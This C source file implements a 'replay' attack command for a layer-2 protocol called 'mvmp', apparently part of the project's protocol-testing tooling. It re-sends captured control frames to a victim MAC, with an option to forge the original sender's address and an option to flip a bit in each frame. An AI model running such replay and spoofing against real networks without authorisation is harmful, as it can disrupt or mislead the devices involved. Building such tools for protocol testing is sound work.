/* SPDX-License-Identifier: Apache-2.0 */
#include "command.h"
#include <err.h>
#include <mvmp/frame.h>
#include <pcap/pcap.h>
#include <string.h>

/*
 * Sends again what a capture holds and what went to the victim: from the own MAC or those of -m
 * (`-a` one of them), or with the word "asis" from the MAC it came from; with "turned" one bit of
 * the last byte is another.
 */

static const char *const words[] = {"asis", "turned"};

static bool is_word(const char *text)
{
	return !strcmp(text, words[0]) || !strcmp(text, words[1]);
}

static bool is_wanted(const struct attack *attack, unsigned kind)
{
	bool named = false;

	for (int i = 1; i < attack->argc; i++) {
		if (!strcmp(attack->argv[i], mvmp_kind_name(kind)))
			return true;
		named |= !is_word(attack->argv[i]);
	}
	return !named;
}

static bool has_word(const struct attack *attack, const char *word)
{
	for (int i = 1; i < attack->argc; i++) {
		if (!strcmp(attack->argv[i], word))
			return true;
	}
	return false;
}

static bool is_for_victim(const struct attack *attack, const uint8_t *dst)
{
	return !memcmp(dst, attack->victim, MVMP_MAC_LEN) || !memcmp(dst, mvmp_group, MVMP_MAC_LEN);
}

static void send_again(struct attack *attack, const uint8_t *frame, size_t len, uint64_t n)
{
	uint16_t ethertype = (uint16_t)(frame[12] << 8 | frame[13]);
	uint8_t src[MVMP_MAC_LEN], copy[WIRE_FRAME_MAX];

	if (ethertype != MVMP_ETHERTYPE_CONTROL || !is_for_victim(attack, frame) ||
		!memcmp(frame + MVMP_MAC_LEN, attack->victim, MVMP_MAC_LEN) ||
		!is_wanted(attack, frame[WIRE_HEADER_LEN] & 15) || len > sizeof copy)
		return;
	attack_source(attack, src, n);
	memcpy(copy, frame, len);
	copy[len - 1] ^= has_word(attack, "turned");
	wire_send(&attack->wire, attack->victim,
		has_word(attack, "asis") ? copy + MVMP_MAC_LEN : src, ethertype,
		copy + WIRE_HEADER_LEN, len - WIRE_HEADER_LEN);
}

/* `frames` times all of them. */
int attack_replay(struct attack *attack)
{
	char errbuf[PCAP_ERRBUF_SIZE];
	struct pcap_pkthdr *header;
	const u_char *frame;
	uint64_t n = 0;

	for (uint64_t times = 0; times < attack->frames; times++) {
		pcap_t *file = pcap_open_offline(attack->argc ? attack->argv[0] : "-", errbuf);

		if (!file)
			errx(1, "%s", errbuf);
		while (pcap_next_ex(file, &header, &frame) == 1) {
			if (header->caplen > WIRE_HEADER_LEN && header->caplen == header->len)
				send_again(attack, frame, header->caplen, n++);
		}
		pcap_close(file);
	}
	attack_report(attack);
	return 0;
}
